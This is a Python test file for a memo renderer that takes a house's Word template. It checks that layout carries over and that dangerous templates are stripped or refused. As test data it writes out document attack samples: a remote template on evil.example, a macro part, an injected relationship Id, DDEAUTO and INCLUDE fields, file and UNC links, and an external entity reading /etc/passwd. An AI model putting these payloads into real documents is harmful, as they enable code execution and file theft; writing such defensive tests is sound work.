"""A memo in a house's own document: what is kept, what is added, what is left behind, and what is refused."""

import io
import random
import re
import zipfile
from xml.sax.saxutils import escape

import pytest
from docx import Document
from docx.enum.section import WD_SECTION
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Cm, Pt
from lxml import etree

from finvet.errors import FinvetError
from finvet.memo.blocks import Charts, Items, Paragraph
from finvet.memo.formats import docx
from finvet.memo.formats.docx_house import house_template, read_template, template_of
from finvet.memo.formats.docx_template import own_template
from tests.memo.formats.test_docx import VAL, WORD, complaints, part, with_blocks

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    + "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
MAIN = "wordprocessingml.document.main+xml"


def saved(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def house():
    """A letter-size paper with a header that has a picture, a footer, its own look, and some text."""
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height, section.left_margin = Cm(21.59), Cm(27.94), Cm(3)
    document.styles["Normal"].font.name, document.styles["Normal"].font.size = "Georgia", Pt(10.5)
    section.header.paragraphs[0].add_run("Example House Ltd").add_picture(io.BytesIO(PNG), width=Cm(2))
    section.footer.paragraphs[0].text = "registered somewhere"
    document.add_heading("Text of the house", 1)
    return saved(document)


def patched(content, changes, added=()):
    """The document with parts changed (a pattern and what replaces it) and added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as package, zipfile.ZipFile(out, "w") as target:
        for name in package.namelist():
            data = package.read(name)
            if name in changes:
                old, new = changes[name]
                assert old in data, (name, old)
                data = data.replace(old, new, 1)
            target.writestr(name, data)
        for name, data in dict(added).items():
            target.writestr(name, data)
    return out.getvalue()


def refused(content):
    with pytest.raises(FinvetError) as caught:
        house_template(content, "house.docx")
    assert str(caught.value).startswith("house.docx: ")
    assert "\n" not in str(caught.value)
    return caught.value.message.code


def header_of(document, inner):
    """A header that holds the inner markup, in place of the house's own."""
    start = re.search(rb"<w:p>|<w:p ", part_bytes(document, "word/header1.xml")).start()
    whole = part_bytes(document, "word/header1.xml")
    return {"word/header1.xml": (whole[start:], f"<w:p>{inner}</w:p></w:hdr>".encode())}


def part_bytes(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


def names(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.namelist()


def related(relation):
    """A relation added to those of the header."""
    return {"word/_rels/header1.xml.rels": (b"</Relationships>", f"{relation}</Relationships>".encode())}


def test_the_memo_has_the_paper_and_the_look_of_the_house(house, memo, tmp_path):
    written = docx.render(memo, house_template(house, "house.docx"))
    document = Document(io.BytesIO(written))
    section = document.sections[0]
    assert (round(section.page_width.cm, 2), round(section.left_margin.cm, 1)) == (21.59, 3.0)
    assert section.header.paragraphs[0].text == "Example House Ltd"
    assert section.footer.paragraphs[0].text == "registered somewhere"
    assert [one.blob for one in section.header.part.related_parts.values()] == [PNG]
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.paragraphs[0].text == memo.title
    assert "Text of the house" not in [paragraph.text for paragraph in document.paragraphs]
    assert {"Memo Lead", "Memo Table", "Memo Box", "Heading 1"} <= {style.name for style in document.styles}
    assert complaints(written, tmp_path) == []


def test_it_says_what_it_says_on_our_own_paper(house, memo):
    def texts(content):
        return ["".join(p.itertext(f"{WORD}t")) for p in part(content, "word/document.xml").iter(f"{WORD}p")]

    assert texts(docx.render(memo, house_template(house, "h"))) == texts(docx.render(memo))


def test_the_same_house_gives_the_same_bytes(house, memo):
    assert docx.render(memo, house_template(house, "a")) == docx.render(memo, house_template(house, "b"))


def test_tables_fill_the_paper_of_the_house(house, memo):
    into = house_template(house, "h")
    assert into.width == round((21.59 - 3 - 3.175) / 2.54 * 1440)
    body = part(docx.render(memo, into), "word/document.xml")
    assert {int(one.get(f"{WORD}w")) for one in body.iter(f"{WORD}tblW")} == {into.width}


def test_charts_fit_a_narrow_paper(memo):
    document = Document()
    document.sections[0].page_width = Cm(18)
    body = part(docx.render(memo, house_template(saved(document), "h")), "word/document.xml")
    widths = [int(one.get("cx")) for one in body.iter("{*}extent")]
    assert len(widths) == sum(len(block.charts) for block in memo.blocks if isinstance(block, Charts))
    assert max(widths) * 2 < (18 - 2 * 3.175) * 360_000


def test_a_word_template_is_taken(house, memo):
    dotx = patched(house, {"[Content_Types].xml": (MAIN.encode(), MAIN.replace("document", "template").encode())})
    assert docx.render(memo, house_template(dotx, "h")) == docx.render(memo, house_template(house, "h"))


def test_a_house_without_a_footer_gets_ours(memo, tmp_path):
    written = docx.render(memo, house_template(saved(Document()), "plain.docx"))
    assert memo.footer in Document(io.BytesIO(written)).sections[0].footer.paragraphs[0].text
    assert complaints(written, tmp_path) == []


def test_styles_are_known_by_name_in_whatever_language_word_speaks(memo, house):
    german = patched(house, {"word/styles.xml": (b'w:styleId="Heading1"', b'w:styleId="berschrift1"')})
    used = {
        one.get(VAL)
        for one in part(docx.render(memo, house_template(german, "h")), "word/document.xml").iter(f"{WORD}pStyle")
    }
    assert "berschrift1" in used
    assert "Heading1" not in used


def test_a_style_of_ours_takes_no_name_that_the_house_uses_otherwise(house, memo):
    taken = patched(house, {"word/styles.xml": (b'w:styleId="Heading3"', b'w:styleId="MemoCell"')})
    written = docx.render(memo, house_template(taken, "h"))
    styles = Document(io.BytesIO(written)).styles
    assert styles["Memo Cell"].style_id == "MemoCellMemo"
    assert styles["Memo Figure"].base_style.name == "Memo Cell"
    used = {one.get(VAL) for one in part(written, "word/document.xml").iter(f"{WORD}pStyle")}
    assert "MemoCellMemo" in used
    assert "MemoCell" not in used


def test_a_numbered_list_looks_as_the_house_numbers_and_starts_at_one(house):
    into = house_template(house, "h")
    written = docx.render(with_blocks(Items(("a",), numbered=True), Items(("b",), numbered=True)), into)
    numbering = part(written, "word/numbering.xml")
    lists = {one.get(f"{WORD}numId"): one for one in numbering.findall(f"{WORD}num")}
    used = [one.get(VAL) for one in part(written, "word/document.xml").iter(f"{WORD}numId")]
    style = Document(io.BytesIO(house)).styles["List Number"].element.find(f".//{WORD}numId").get(VAL)
    definition = lists[style].find(f"{WORD}abstractNumId").get(VAL)
    assert len(set(used)) == 2
    assert [lists[one].find(f"{WORD}abstractNumId").get(VAL) for one in used] == [definition] * 2


def test_a_house_without_lists_gets_ours(house, tmp_path):
    bare = patched(house, {"word/_rels/document.xml.rels": (b"relationships/numbering", b"relationships/nothing")})
    bare = patched(bare, {"word/styles.xml": (b'w:val="List Bullet"/>', b'w:val="Other"/>')})
    written = docx.render(with_blocks(Items(("a",)), Items(("b",), numbered=True)), house_template(bare, "h"))
    assert complaints(written, tmp_path) == []
    lists = {one.get(f"{WORD}numId") for one in part(written, "word/numbering.xml").findall(f"{WORD}num")}
    assert {one.get(VAL) for one in part(written, "word/document.xml").iter(f"{WORD}numId")} <= lists


def bullets_of(written):
    """The signs of the lists that the first list's style and paragraphs name."""
    numbering, styles = part(written, "word/numbering.xml"), part(written, "word/styles.xml")
    definitions = {one.get(f"{WORD}abstractNumId"): one for one in numbering.findall(f"{WORD}abstractNum")}
    lists = {one.get(f"{WORD}numId"): one[0].get(VAL) for one in numbering.findall(f"{WORD}num")}
    (style,) = (one for one in styles.iter(f"{WORD}style") if one.find(f"{WORD}name").get(VAL) == "List Bullet")
    named = [*style.iter(f"{WORD}numId"), *part(written, "word/document.xml").iter(f"{WORD}numId")]
    return [definitions[lists[one.get(VAL)]].find(f".//{WORD}lvlText").get(VAL) for one in named]


def test_bullets_that_a_house_lacks_are_ours_among_its_lists(house):
    other = patched(house, {"word/styles.xml": (b'w:val="List Bullet"/>', b'w:val="Other"/>')})
    assert bullets_of(docx.render(with_blocks(Items(("a",))), house_template(other, "h"))) == ["•"]


def test_a_style_of_bullets_that_has_none_gets_ours():
    document = Document()
    properties = document.styles["List Bullet"].element.pPr
    properties.remove(properties.numPr)
    assert bullets_of(docx.render(with_blocks(Items(("a",))), house_template(saved(document), "h"))) == ["•"]


def test_of_each_kind_one_style_is_usual(house, memo):
    unusual = patched(house, {"word/styles.xml": (b'<w:name w:val="Normal"/>', b'<w:name w:val="Body of the house"/>')})
    styles = part(docx.render(memo, house_template(unusual, "h")), "word/styles.xml")
    usual = [one.get(f"{WORD}type") for one in styles.iter(f"{WORD}style") if one.get(f"{WORD}default")]
    assert sorted(usual) == sorted(set(usual))
    assert len(usual) == 4


def test_the_header_of_an_earlier_section_holds_where_the_last_has_none(memo):
    document = Document()
    document.sections[0].header.paragraphs[0].text = "on every page"
    document.add_section(WD_SECTION.NEW_PAGE)
    assert document.sections[1].header.is_linked_to_previous
    written = Document(io.BytesIO(docx.render(memo, house_template(saved(document), "h"))))
    assert written.sections[0].header.paragraphs[0].text == "on every page"


def test_a_first_page_of_its_own_stays(memo):
    document = Document()
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "first"
    written = Document(io.BytesIO(docx.render(memo, house_template(saved(document), "h")))).sections[0]
    assert written.different_first_page_header_footer
    assert written.first_page_header.paragraphs[0].text == "first"


def test_a_memo_is_one_column(memo):
    document = Document()
    document.sections[0]._sectPr.append(parse_xml(f'<w:cols {nsdecls("w")} w:num="2" w:space="720"/>'))
    assert (
        part(docx.render(memo, house_template(saved(document), "h")), "word/document.xml").find(f".//{WORD}cols")
        is None
    )


# ---------------------------------------------------------------- what comes alive nowhere


def test_nothing_of_the_house_is_fetched_or_run(house, memo):
    tainted = patched(
        house,
        {
            "word/settings.xml": (
                b"<w:defaultTabStop",
                b'<w:attachedTemplate xmlns:r="%s" r:id="rIdX"/><w:defaultTabStop' % RELATIONSHIPS.encode(),
            ),
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                f'<Relationship Id="m" Type="{RELATIONSHIPS}/vbaProject" Target="vbaProject.bin"/></Relationships>'.encode(),
            ),
        },
        {
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdX" Type="{RELATIONSHIPS}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
            "word/vbaProject.bin": b"macro",
            "word/glossary/document.xml": "<x/>",
        },
    )
    written = docx.render(memo, house_template(tainted, "h"))
    whole = b"".join(part_bytes(written, name) for name in names(written))
    assert b"External" not in whole
    assert b"evil" not in whole
    assert not [name for name in names(written) if re.search(r"vba|glossary|customXml|embeddings|\.bin$", name)]
    settings = part(written, "word/settings.xml")
    assert settings.find(f"{WORD}attachedTemplate") is None
    assert settings.find(f"{WORD}defaultTabStop") is not None


def test_a_web_link_of_the_house_stays(house, memo):
    link = (
        f'<Relationship Id="l" Type="{RELATIONSHIPS}/hyperlink" Target="https://house.example/" TargetMode="External"/>'
    )
    inner = f'<w:hyperlink r:id="l" xmlns:r="{RELATIONSHIPS}"><w:r><w:t>house.example</w:t></w:r></w:hyperlink>'
    written = docx.render(memo, house_template(patched(house, {**header_of(house, inner), **related(link)}), "h"))
    rels = next(name for name in names(written) if "header" in name and name.endswith(".rels"))
    assert b"https://house.example/" in part_bytes(written, rels)


def test_an_id_of_the_house_brings_no_relation_in(house, memo):
    smuggled = f'l" Type="" Target=""/><Relationship Id="m" Type="{RELATIONSHIPS}/frame" Target="https://evil.example/'
    own = escape(smuggled, {'"': "&quot;"})
    link = f'<Relationship Id="{own}" Type="{RELATIONSHIPS}/hyperlink" Target="https://house.example/" TargetMode="External"/>'
    inner = f'<w:hyperlink r:id="{own}" xmlns:r="{RELATIONSHIPS}"><w:r><w:t>house</w:t></w:r></w:hyperlink>'
    written = docx.render(memo, house_template(patched(house, {**header_of(house, inner), **related(link)}), "h"))
    rels = next(name for name in names(written) if "header" in name and name.endswith(".rels"))
    assert [one.get("Id") for one in etree.fromstring(part_bytes(written, rels))] == [smuggled]


def field(*instructions, inside=""):
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}{inside}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


@pytest.mark.parametrize(
    ("inner", "relation", "code"),
    [
        ('<w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="x"/></w:drawing></w:r>', ("image", "https://e.example/p.png"), "template-fetches"),
        ('<w:hyperlink r:id="x"/>', ("hyperlink", "file:///c:/x.exe"), "template-fetches"),
        ('<w:hyperlink r:id="x"/>', ("hyperlink", r"\\\\host\\share"), "template-fetches"),
        ('<w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="x"/></w:object></w:r>', ("oleObject", "embeddings/o.bin"), "template-holds"),
        ('<w:r><w:object r:id="x"/></w:r>', ("chart", "charts/chart1.xml"), "template-holds"),
        ('<w:r><w:pict><v:imagedata xmlns:v="urn:v" src="https://e.example/p.png"/></w:pict></w:r>', None, "template-fetches"),
        ('<w:r><w:pict><v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="//e/p.png"/></w:pict></w:r>', None, "template-fetches"),
        ('<w:fldSimple w:instr=" DDEAUTO excel x y "/>', None, "template-field"),
        (field("INCLUDE", 'PICTURE "https://e.example/p.png"'), None, "template-field"),
        (field("IF ", inside=field("LINK x")), None, "template-field"),
        (field('HYPERLINK "file:///x"'), None, "template-field"),
        (field(""), None, "template-field"),
        ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>RD x</w:instrText></w:r>', None, "template-field"),
        ('<w:hyperlink r:id="nowhere"/>', None, "template-broken"),
    ],
)  # fmt: skip
def test_a_header_that_would_fetch_or_run_something_is_refused(house, inner, relation, code):
    changes = header_of(house, inner.replace("r:", f'xmlns:r="{RELATIONSHIPS}" r:', 1) if "r:" in inner else inner)
    if relation:
        kind, target = relation
        mode = "" if target.endswith((".bin", ".xml")) else ' TargetMode="External"'
        changes |= related(f'<Relationship Id="x" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/>')
    assert refused(patched(house, changes)) == code


@pytest.mark.parametrize(
    "instruction",
    ["PAGE", r" NUMPAGES \* MERGEFORMAT ", 'STYLEREF "heading 1"', "= 1 + 2", 'HYPERLINK "https://h.example"'],
)
def test_a_header_may_count_and_name(house, instruction):
    house_template(patched(house, header_of(house, field(instruction))), "h")


def test_of_a_vector_picture_its_points_stay(house, memo):
    svg = "http://schemas.microsoft.com/office/drawing/2016/SVG/main"
    inner = f'<w:r><a:blip xmlns:a="urn:a"><a:extLst><a:ext uri="u"><s:svgBlip xmlns:s="{svg}" xmlns:r="{RELATIONSHIPS}" r:embed="gone"/></a:ext></a:extLst></a:blip></w:r>'
    written = docx.render(memo, house_template(patched(house, header_of(house, inner)), "h"))
    header = next(part_bytes(written, name) for name in names(written) if re.search(r"header\d+\.xml$", name))
    assert b"svg" not in header
    assert b"extLst" not in header


# ---------------------------------------------------------------- what is no template


def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries.items():
            package.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "template-not-word"),
        (b"hello", "template-not-word"),
        (b"PK\x03\x04" + b"x" * 100, "template-not-word"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 600, "template-old"),
        (zipped({"a.txt": "x"}), "template-not-word"),
        (zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>"}), "template-not-word"),
        (zipped({"[Content_Types].xml": "<Types", "_rels/.rels": "<Relationships/>"}), "template-broken"),
        (zipped({f"p{number}": "" for number in range(2_001)}), "template-large"),
        (zipped({"word/styles.xml": b" " * (65 * 1024 * 1024)}), "template-large"),
    ],
)
def test_what_is_no_word_document_is_refused(content, code):
    assert refused(content) == code


@pytest.mark.parametrize(
    ("main", "code"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "template-macros"),
        ("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "template-macros"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "template-not-word"),
    ],
)
def test_a_document_of_another_kind_is_refused(house, main, code):
    whole = f"application/vnd.openxmlformats-officedocument.{MAIN}".encode()
    assert refused(patched(house, {"[Content_Types].xml": (whole, main.encode())})) == code


def test_a_strict_document_is_refused(house):
    changes = {
        "_rels/.rels": (
            f"{RELATIONSHIPS}/officeDocument".encode(),
            b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        )
    }
    assert refused(patched(house, changes)) == "template-strict"


PARTS = ("document", "styles", "numbering", "settings", "fontTable", "theme/theme1", "header1", "footer1")


@pytest.mark.parametrize("name", PARTS)
def test_a_part_that_is_damaged_is_named(house, name):
    whole = part_bytes(house, f"word/{name}.xml")
    assert refused(patched(house, {f"word/{name}.xml": (whole, whole[: len(whole) // 2])})) == "template-broken"


@pytest.mark.parametrize("name", PARTS)
def test_entities_are_refused_wherever_they_stand(house, name):
    start = part_bytes(house, f"word/{name}.xml").partition(b"?>")[0] + b"?>"
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
    assert refused(patched(house, {f"word/{name}.xml": (start, start + bomb)})) == "template-broken"


def test_a_page_without_room_is_refused():
    document = Document()
    document.sections[0].page_width = Cm(12)
    assert refused(saved(document)) == "template-narrow"


def test_a_page_of_no_size_is_refused(house):
    assert refused(patched(house, {"word/document.xml": (b"<w:pgSz w:w=", b"<w:pgSz w:v=")})) == "template-broken"


def test_a_file_that_is_not_there_or_too_large_is_refused(tmp_path):
    with pytest.raises(FinvetError, match=r"no\.docx: cannot be read: .*; check the name"):
        read_template(tmp_path / "no.docx")
    with (tmp_path / "big.docx").open("wb") as file:
        file.truncate(40 * 1024 * 1024)
    with pytest.raises(FinvetError, match=r"big\.docx: more than 32 MB"):
        read_template(tmp_path / "big.docx")


def test_whatever_is_changed_in_it_a_house_is_taken_or_refused_in_one_line(house):
    chance = random.Random(7)
    outcomes = []
    for _ in range(60):
        with zipfile.ZipFile(io.BytesIO(house)) as package:
            parts = {name: bytearray(package.read(name)) for name in package.namelist()}
        data = parts[chance.choice(sorted(parts))]
        for _ in range(3):
            place = chance.randrange(len(data))
            data[place : place + chance.randrange(12)] = chance.choice([b"", b"<", b'"', b"x", b"9" * 30, b"</w:p>"])
        content = zipped({name: bytes(data) for name, data in parts.items()})
        try:
            docx.render(with_blocks(Paragraph("x"), Items(("y",), numbered=True)), house_template(content, "h"))
            outcomes.append("taken")
        except FinvetError as error:
            outcomes.append(str(error))
    assert 0 < outcomes.count("taken") < len(outcomes)
    assert not [line for line in outcomes if "\n" in line]


def test_a_template_is_named_by_its_file_or_given(tmp_path, house):
    file = tmp_path / "house.docx"
    file.write_bytes(house)
    assert template_of(None) is None
    assert template_of(own_template()) is own_template()
    assert template_of(file) == template_of(str(file)) == house_template(house, "house.docx")


def test_parts_are_well_formed(house, memo):
    written = docx.render(memo, house_template(house, "h"))
    for name in names(written):
        if name.endswith((".xml", ".rels")):
            etree.fromstring(part_bytes(written, name))
